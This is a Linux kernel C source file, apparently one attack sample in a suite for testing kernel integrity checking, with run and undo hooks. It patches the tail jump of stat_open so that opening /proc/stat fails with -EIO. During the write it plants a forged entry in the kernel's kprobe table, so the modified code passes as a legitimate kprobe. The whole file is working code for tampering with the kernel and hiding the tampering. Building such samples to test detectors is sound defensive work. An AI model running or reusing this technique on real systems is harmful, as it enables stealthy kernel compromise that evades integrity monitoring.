// SPDX-License-Identifier: GPL-2.0-only
/*
 * A kprobe that is only in the kernel's table: it says that what stands at a
 * tail jump is its own, and what stood there before is code of ours. So that
 * code comes back, as far as that table can tell: /proc/stat cannot be opened.
 */
#include <linux/kprobes.h>

#include "attack.h"

ATTACK_SYMBOL(kprobe_table);
ATTACK_SYMBOL(aggr_pre_handler);
ATTACK_SYMBOL(stat_open);
ATTACK_SYMBOL(single_open_size);

/* push $-EIO; pop %rax; ret; nop */
static const u8 code[JMP32_INSN_SIZE] = {0x6a, 0xfb, 0x58, 0xc3, 0x90};
static struct optimized_kprobe probe;
static u8 *place;
static u64 old;

static u8 *find_jump(void)
{
	u8 *p = (u8 *)stat_open_at;
	s32 away;

	for (int i = 0; i < 128; i++) {
		memcpy(&away, p + i + 1, sizeof(away));
		if (p[i] == 0xe9 &&
		    (unsigned long)p + i + JMP32_INSN_SIZE + away == single_open_size_at)
			return p + i;
	}
	return NULL;
}

/* In one store: a step between would show. */
static int write_place(u64 value)
{
	u8 *alias = attack_alias(place);

	if (!alias)
		return -ENOMEM;
	*(volatile u64 *)alias = value;
	attack_unalias(alias);
	return 0;
}

static int run(void)
{
	u64 value;
	int r;

	place = find_jump();
	if (!place)
		return -ENOENT;
	probe.kp.addr = place;
	probe.kp.opcode = code[0];
	probe.kp.pre_handler = (void *)aggr_pre_handler_at;
	probe.optinsn.insn = place;
	memcpy(probe.optinsn.copied_insn, code + 1, sizeof(code) - 1);
	hlist_add_head_rcu(&probe.kp.hlist, (struct hlist_head *)kprobe_table_at);
	memcpy(&old, place, sizeof(old));
	value = old;
	memcpy(&value, code, sizeof(code));
	r = write_place(value);
	hlist_del_rcu(&probe.kp.hlist);
	return r;
}

static void undo(void)
{
	hlist_add_head_rcu(&probe.kp.hlist, (struct hlist_head *)kprobe_table_at);
	probe.kp.opcode = ((u8 *)&old)[0];
	memcpy(probe.optinsn.copied_insn, (u8 *)&old + 1, sizeof(code) - 1);
	if (write_place(old))
		pr_err("attack " KBUILD_MODNAME ": cannot be undone\n");
	hlist_del_rcu(&probe.kp.hlist);
	synchronize_rcu();
}

ATTACK(run, undo, NULL, "a forged kprobe");
